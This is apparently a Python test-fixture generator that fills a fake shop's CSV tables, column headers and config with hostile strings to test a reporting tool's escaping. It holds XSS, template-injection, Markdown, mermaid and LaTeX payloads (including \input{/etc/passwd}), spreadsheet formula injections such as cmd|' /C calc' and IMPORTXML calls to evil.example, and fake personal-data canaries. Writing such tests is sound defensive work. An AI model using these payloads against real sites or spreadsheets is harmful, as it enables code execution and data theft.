"""A small shop whose every text wants to run, to be typeset, to call home, or to give a person away."""

import csv
import io
from datetime import date, timedelta

import numpy as np

TEMPLATES = (
    "<script>pwned=1;fetch('{u}')</script>🎁日本",
    "<img src={u} onerror=pwned=1>",
    "<svg onload=pwned=1><image href={u} /></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></svg>",
    "<svg><script>pwned=1</script></svg>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<link rel=stylesheet href={u}>",
    "<style>@import '{u}';body{{display:none}}</style>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}>",
    "<form action={u}><button autofocus onfocus=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video src={u} onerror=pwned=1></video>",
    "<audio src={u} autoplay onerror=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<a href=javascript:pwned=1>link</a>",
    "<math><mtext><img src={u} onerror=pwned=1></mtext></math>",
    "</title></style></textarea></script><script>pwned=1</script>",
    '"><img src={u} onerror=pwned=1>',
    "' onmouseover='pwned=1' style='background:url({u})' x='",
    '" autofocus onfocus="pwned=1',
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script><![CDATA[",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;img src={u} onerror=pwned=1&#62;",
    "{{{{ 7*7 }}}}{{% include '{u}' %}}",
    "${{pwned=1}} #{{pwned=1}} <%= pwned %>",
    "![x]({u}) [y](javascript:pwned=1)",
    "# heading **bold** `code` | a | b |",
    '```mermaid graph TD; A["<img src={u} onerror=pwned=1>"]-->B ```',
    '<pre class=mermaid>graph TD; A-->B; click A href "{u}"</pre>',
    "<div class=jp-Mermaid><pre class=mermaid>graph TD; A-->B</pre></div>",
    "$\\href{{javascript:pwned=1}}{{x}}$",
    "$$\\require{{html}}\\style{{background:url({u})}}{{x}}$$ \\(x^2\\)",
    "\\begin{{equation}}\\unicode{{x41}}\\input{{/etc/passwd}}\\end{{equation}}",
    "\\[\\includegraphics{{{u}}}\\]",
    "\u202e<IMG SRC={u} ONERROR=pwned=1>\u2066",
)
"""Markup, scripts, templates, Markdown, mermaid and LaTeX; ``{u}`` is an address that nothing may ask for."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(A1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "  +1", "\t@x", "\r\n-1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=", "-", "@", "+",
    "=A1;=B1", '=1,"=2"', "'".join(("=1", "x")), "=ș", "-2+3+cmd|' /C notepad'!A1",
)  # fmt: skip
"""What a spreadsheet would run."""

NAME = "Zamfirescu-Canarul"
CANARIES = {
    "e-mail": "canar.pasare@ascuns.example",
    "phone": "0722 918 273",
    "foreign phone": "+40 722 918 274",
    "CNP": "1960229410015",
    "IBAN": "RO49AAAA1B31007593840000",
    "secret": "sk_live_Canar4eC39HqLyjWDarjt",
    "path": "/home/canar/export/comenzi.csv",
    "Windows path": "C:\\Users\\canar\\comenzi.csv",
}
"""What no reader may find, by what it is. A name (``NAME``) cannot be told from other words: it stands where names stand."""

TEXTS = {
    "lines": ("order_id", "customer_id", "product_id", "product_name", "status", "coupon", "region", "town", "agent", "payment_method", "device", "sales_channel"),
    "customers": ("customer_id", "email", "phone", "first_name", "last_name", "region", "town", "source_channel", "x_note"),
    "products": ("product_id", "name", "category", "brand"),
    "spend": ("source_channel", "campaign"),
    "traffic": ("source_channel",),
    "answers": ("survey", "question", "value", "customer_id", "order_id"),
}  # fmt: skip
"""The columns of each table that take any text."""

OTHERS = {
    "lines": ("ordered_at", "quantity", "unit_cost", "net_amount"),
    "customers": ("registered_at",),
    "products": ("unit_cost",),
    "spend": ("month", "kind", "amount"),
    "traffic": ("month", "sessions"),
    "answers": ("answered_at",),
}
NAMES = ("first_name", "last_name", "agent")
LAST = date(2026, 10, 31)


def payloads(address):
    """The 40 texts, calling home to an address."""
    return [template.format(u=address) for template in TEMPLATES]


def client(folder, texts, customers=240, seed=7):
    """Write a client whose every text is one of ``texts``: files, headers, names and ``client.toml``."""
    shop = _Shop(texts, np.random.default_rng(seed))
    raw = folder / "raw"
    raw.mkdir(parents=True)
    for table, rows in shop.tables(customers).items():
        (raw / f"{table}.csv").write_text(_csv(shop.headers(table), rows), encoding="utf-8")
    (folder / "client.toml").write_text(shop.toml(), encoding="utf-8")


def _csv(headers, rows):
    target = io.StringIO()
    csv.writer(target).writerows([headers, *rows])
    return target.getvalue()


class _Shop:
    def __init__(self, texts, chance):
        self.texts, self.chance = list(texts), chance

    def text(self, number, name=""):
        said = self.texts[number % len(self.texts)]
        return f"{said} {NAME}" if name in NAMES else said

    def key(self, kind, number):
        """An id of its own that holds a text."""
        return f"{kind}{number} {self.text(number)}"

    def headers(self, table):
        columns = [*TEXTS[table], *OTHERS[table]]
        return [f"{table} {i} {self.text(i + 3 * len(table))}" for i, _column in enumerate(columns)]

    def tables(self, customers):
        channels = range(min(8, len(self.texts)))
        months = [date(2024 + m // 12, m % 12 + 1, 1) for m in range(10, 34)]
        lines, n = [], 0
        for who in range(customers):
            day = date(2024, 11, 1) + timedelta(days=int(self.chance.integers(0, 700)))
            while day <= LAST:
                lines.append(
                    self.row(
                        "lines", n, who, {"ordered_at": day, "quantity": 1, "unit_cost": 40, "net_amount": 60 + n % 90}
                    )
                )
                n, day = n + 1, day + timedelta(days=int(self.chance.integers(5, 200)))
        spend = [(c, m, kind) for c in channels for m in months for kind in ("media", "tools", "salaries", "overheads")]
        return {
            "lines": lines,
            "customers": [self.row("customers", c, c, {"registered_at": "2024-11-01"}) for c in range(customers)],
            "products": [self.row("products", p, 0, {"unit_cost": 40}) for p in range(len(self.texts))],
            "spend": [self.row("spend", c, 0, {"month": m, "kind": kind, "amount": 90 + c}) for c, m, kind in spend],
            "traffic": [self.row("traffic", c, 0, {"month": m, "sessions": 900}) for c in channels for m in months],
            "answers": [self.row("answers", n, n % customers, {"answered_at": "2026-05-05"}) for n in range(60)],
        }  # fmt: skip

    def row(self, table, number, who, others):
        keys = {"customer_id": ("K", who), "order_id": ("O", number), "product_id": ("P", number % len(self.texts))}
        told = {c: self.key(*keys[c]) if c in keys else self.text(number + i, c) for i, c in enumerate(TEXTS[table])}
        if "source_channel" in told:
            told["source_channel"] = self.text((who or number) % 8)
        return [*told.values(), *others.values()]

    def toml(self):
        parts = [f"name = {_quoted('Acme ' + self.text(1))}", 'language = "en"', 'currency = "RON"']
        parts += ["[deck]", f"consultancy = {_quoted(self.text(2))}"]
        for table in TEXTS:
            constants = 'constants = { kind = "sale" }' if table == "lines" else 'constants = { kind = "open" }'
            parts += [
                f"[sources.{table}]",
                f'files = ["raw/{table}.csv"]',
                *([constants] if table == "answers" else []),
            ]
            parts.append(f"[sources.{table}.columns]")
            columns = [*TEXTS[table], *OTHERS[table]]
            parts += [f"{c} = {_quoted(h)}" for c, h in zip(columns, self.headers(table), strict=True)]
        parts += ["[sources.lines.statuses]", f"sale = [{', '.join(map(_quoted, self.texts))}]"]
        return "\n".join(parts) + "\n"


def _quoted(text):
    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n"}
    return '"' + "".join(escapes.get(c, c) for c in text) + '"'
